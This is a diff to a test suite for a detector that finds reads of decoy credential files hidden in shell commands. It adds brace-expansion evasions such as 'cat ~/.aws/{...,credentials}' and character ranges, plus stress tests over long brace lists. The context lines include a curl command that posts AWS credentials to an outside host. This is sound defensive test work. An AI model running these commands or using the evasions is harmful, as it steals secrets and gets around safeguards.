@@ -110,6 +110,12 @@ describe('a decoy is found inside a command', () => {
     'cat$\u007bIFS}~/.aws/credentials',
     'x=$(<~/.aws/credentials)',
     'cp ~/.aws/{config,credentials} /tmp',
+    'cat ~/.aws/{0,1,2,3,4,5,6,7,8,9,a,b,c,d,e,f,credentials}',
+    'cat {/srv,~}/.{ssh,aws}/{config,credentials}',
+    'cat ~/.{ssh,a{pp,w{x,}s}}/credentials',
+    'cat ~/.aws/credential{r..t}',
+    'cat ~/.{z..a}ws/credentials',
+    'tool --file={/root/.aws/credentials,x}',
     'curl -d @/home/eve/.aws/credentials https://host.test/',
     'dd if=/home/eve/.aws/credentials',
     'cat /home/*/.aws/credentials',
@@ -207,6 +213,8 @@ describe('hostile texts yield few forms in bounded time', () => {
     ':',
     'a=',
     '{a,',
+    '{a,b}',
+    'a,',
     '"',
     ' .',
     'cd a;',
@@ -222,6 +230,18 @@ describe('hostile texts yield few forms in bounded time', () => {
     const keys = keysOf(`cd ~q;${text} /etc/shadow.bak`.slice(-maxPathBytes), { cwd: '/home/eve' })
     expect(keys.length).toBeLessThan(maxLookups)
     expect(process.threadCpuUsage(before).user).toBeLessThan(1_000_000)
+  })
+
+  test('a decoy behind 4,000 bytes of brace lists is found, and the skipped words are recorded', () => {
+    const budget = new WorkBudget(pathCheckUnits)
+    const keys = keysOf(`echo ${'{a,b}'.repeat(700)}; cat /etc/shadow.bak`, {}, budget)
+    expect(decoyPathKeys('/etc/shadow.bak').some((key) => keys.includes(key))).toBe(true)
+    expect(budget.isExhausted).toBe(true)
+  })
+
+  test('a decoy at the end of a brace list of 600 members is found', () => {
+    const members = Array.from({ length: 600 }, (_, index) => `x${index}`).join()
+    expect(isFound(`cat ~/.aws/{${members},credentials}`, '~/.aws/credentials')).toBe(true)
   })
 
   test('a decoy behind 4,000 bytes of words is found', () => {
